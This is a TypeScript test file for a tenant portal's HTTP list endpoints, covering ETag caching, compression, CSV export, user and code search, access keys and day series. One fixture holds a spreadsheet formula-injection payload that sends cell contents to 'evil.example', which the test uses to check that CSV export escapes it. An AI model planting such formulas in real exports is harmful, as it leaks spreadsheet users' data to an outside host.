import { eventually } from '@tributary/testkit/eventually';
import { expect } from 'chai';
import {
  codeOf,
  decisionOn,
  erasureOf,
  onLog,
  personOf,
  purchase,
  receivedAt,
  signup,
  uuid,
} from '../testing/scenario.ts';
import { operatorToken, startTestPortal, type TestPortal } from '../testing/test-portal.ts';

type Item = Record<string, unknown>;
const naughty = '=HYPERLINK("http://evil.example?x="&A1,"a")';

describe('portal: lists over HTTP', () => {
  const bought = Array.from({ length: 7 }, (_, i) =>
    purchase(i + 1, { ucc: i === 3 ? naughty : 'c' }),
  );
  let portal: TestPortal;
  before(async () => {
    portal = await startTestPortal();
    await portal.call('POST', '/api/tenants', { name: 'acme', tenantId: 'acme' });
    await portal.publish([
      ...bought.map(onLog.event),
      ...bought.map((event) => onLog.decision(decisionOn(event))),
      onLog.event(signup(20, { userId: 'zoe' })),
      onLog.person(personOf('cara', { name: 'Cara Ångström', email: 'Cara.A@example.com' })),
      onLog.person(personOf('ada', { name: 'Ada', email: 'ada@example.org' })),
      onLog.person(personOf('erik', { name: 'Erik Gone', receivedAt: receivedAt(3) })),
      onLog.catalog(erasureOf('erik', receivedAt(50))),
      onLog.code(codeOf({ ucc: 'ada-1', productUserId: 'ada' })),
      onLog.code(codeOf({ ucc: 'ada-2', productUserId: 'ada' })),
      onLog.code(codeOf({ ucc: 'ada-2', productUserId: 'ada', version: 2, type: 'code-disabled' })),
      onLog.code(codeOf({ ucc: 'bob-1', productUserId: 'bob' })),
    ]);
    const published = Date.now();
    await eventually(
      async () => {
        const { events, asOf } = (await get('events')).body;
        expect(events).to.have.length(8);
        // What was on each topic then was read.
        expect(Date.parse(String(asOf))).to.be.above(published);
        expect(await pending()).to.deep.equal([uuid(20)]);
        expect(await users('q=erik')).to.deep.equal([]);
        expect(await codes('')).to.have.length(3);
      },
      { deadlineMs: 30_000 },
    );
  });
  after(() => portal.stop());

  it('say by their tag that nothing changed, and never that when something did', async () => {
    const first = await ask('events?outcome=pending');
    const tag = first.headers.get('etag') ?? '';
    expect(tag).to.match(/^W\/"[\w-]+"$/);
    const again = await ask('events?outcome=pending', { 'if-none-match': `"other", ${tag}` });
    expect([again.status, await again.text()]).to.deep.equal([304, '']);
    expect(Date.parse(again.headers.get('as-of') ?? '')).to.be.above(0);
    expect(again.headers.get('cache-control')).to.equal('no-store');
    const another = await ask('events', { 'if-none-match': tag });
    expect(another.status).to.equal(200);
    await portal.publish([onLog.event(signup(21, { userId: 'zoe' }))]);
    await eventually(async () => {
      const later = await ask('events?outcome=pending', { 'if-none-match': tag });
      expect(later.status).to.equal(200);
      expect(later.headers.get('etag')).to.not.equal(tag);
    });
  });

  it('are compressed for who accepts it', async () => {
    const packed = await ask('events', { 'accept-encoding': 'br, gzip' });
    expect(packed.headers.get('content-encoding')).to.equal('gzip');
    expect(((await packed.json()) as { events: Item[] }).events.length).to.be.above(7);
    const plain = await ask('events', { 'accept-encoding': 'gzip;q=0' });
    expect(plain.headers.get('content-encoding')).to.equal(null);
  });

  it('are whole as CSV, whatever the limit, with nothing that a spreadsheet would run', async () => {
    for (const [query, headers] of [
      ['?format=csv&limit=2&type=purchase-created', {}],
      ['?limit=3&type=purchase-created', { accept: 'text/csv' }],
    ] as const) {
      const answer = await ask(`events${query}`, headers);
      expect(answer.headers.get('content-type')).to.equal('text/csv; charset=utf-8');
      const text = await answer.text();
      const [head, ...lines] = text.trimEnd().split('\r\n');
      expect(head?.split(',').slice(0, 2)).to.deep.equal(['eventId', 'eventType']);
      expect(lines.map((line) => line.slice(0, 36))).to.deep.equal([7, 6, 5, 4, 3, 2, 1].map(uuid));
      expect(lines[3]).to.contain(`"'${naughty.replaceAll('"', '""')}"`);
      expect(lines[0]).to.contain(',EUR,4900,');
    }
    const refused = await ask('events?format=csv&limit=0');
    expect([refused.status, refused.headers.get('content-type')]).to.deep.equal([
      422,
      'application/problem+json',
    ]);
    expect(
      (await ask('events?format=json', { accept: 'text/csv' })).headers.get('content-type'),
    ).to.equal('application/json');
  });

  it('find users by the beginning of id, e-mail, name and last name, and nobody erased', async () => {
    expect(await users('')).to.deep.equal(['ada', 'bob', 'cara', 'zoe']);
    expect(await users('limit=1')).to.deep.equal(['ada', 'bob', 'cara', 'zoe']);
    expect(await users('q=a')).to.deep.equal(['ada']);
    expect(await users('q=cara.a')).to.deep.equal(['cara']);
    expect(await users(`q=${encodeURIComponent('ÅNG')}`)).to.deep.equal(['cara']);
    expect(await users('q=c&limit=1')).to.deep.equal(['cara']);
    for (const q of ['erik', 'gone', 'example', 'b%25'])
      expect(await users(`q=${q}`)).to.deep.equal([]);
    expect(await users('q=zo')).to.deep.equal(['zoe']);
  });

  it('find codes by their beginning, owner and state', async () => {
    expect(await codes('')).to.deep.equal(['ada-1', 'ada-2', 'bob-1']);
    expect(await codes('limit=1')).to.deep.equal(['ada-1', 'ada-2', 'bob-1']);
    expect(await codes('q=ada')).to.deep.equal(['ada-1', 'ada-2']);
    expect(await codes('user=ada&limit=1')).to.deep.equal(['ada-1', 'ada-2']);
    expect(await codes('state=disabled')).to.deep.equal(['ada-2']);
    expect(await codes('state=active')).to.deep.equal(['ada-1', 'bob-1']);
    expect(await codes('q=none')).to.deep.equal([]);
  });

  it('name access keys, and who made them', async () => {
    const made = await portal.call('POST', '/api/tenants/acme/access-keys', { name: 'backend' });
    await portal.call('POST', '/api/tenants/acme/access-keys');
    await portal.call(
      'DELETE',
      `/api/tenants/acme/access-keys/${String(made.body['accessKeyId'])}`,
    );
    const { body } = await portal.call('GET', '/api/tenants/acme/access-keys');
    const keys = body['accessKeys'] as Item[];
    expect(keys.map(({ name, status, createdBy }) => [name, status, createdBy])).to.deep.equal([
      ['backend', 'revoked', 'operator'],
      [null, 'active', 'operator'],
    ]);
    expect(JSON.stringify(body)).to.not.contain('igest');
  });

  it('refuse a series of anything but whole days', async () => {
    for (const query of [
      '',
      '?of=events',
      '?of=events&from=2026-03-01T00:00:00Z',
      '?of=events&from=2026-03-01T00:00:01Z&to=2026-03-02T00:00:00Z',
      '?of=events&from=2026-03-01T00:00:00Z&to=2026-03-01T00:00:00Z',
      '?of=events&from=2020-03-01T00:00:00Z&to=2026-03-01T00:00:00Z',
    ]) {
      expect((await get(`series${query}`)).status, query).to.equal(422);
    }
    const { body } = await get(
      'series?of=events&from=2026-03-01T00:00:00Z&to=2026-03-03T00:00:00Z',
    );
    const [first, second] = body['days'] as Item[];
    expect(second).to.deep.equal({ day: '2026-03-02', count: 0, parts: {} });
    expect(first).to.deep.include({ day: '2026-03-01' });
    expect((first?.['parts'] as Record<string, number>)['attributed']).to.equal(7);
  });

  function ask(path: string, headers: Record<string, string> = {}): Promise<Response> {
    const authorization = `Bearer ${operatorToken}`;
    return fetch(`${portal.baseUrl}/api/tenants/acme/${path}`, {
      headers: { authorization, ...headers },
    });
  }

  function get(path: string) {
    return portal.call('GET', `/api/tenants/acme/${path}`);
  }

  async function pending(): Promise<unknown[]> {
    const { body } = await get('events?outcome=pending');
    return (body['events'] as Item[]).map(({ eventId }) => eventId);
  }

  const users = (query: string) => whole('users', query, 'userId');
  const codes = (query: string) => whole('codes', query, 'ucc');

  async function whole(list: string, query: string, id: string): Promise<unknown[]> {
    const found: unknown[] = [];
    for (let cursor = ''; ;) {
      const { body } = await get(`${list}?${query}${cursor}`);
      found.push(...(body[list] as Item[]).map((item) => item[id]));
      if (body['nextCursor'] === null) return found;
      cursor = `&cursor=${body['nextCursor'] as string}`;
    }
  }
});
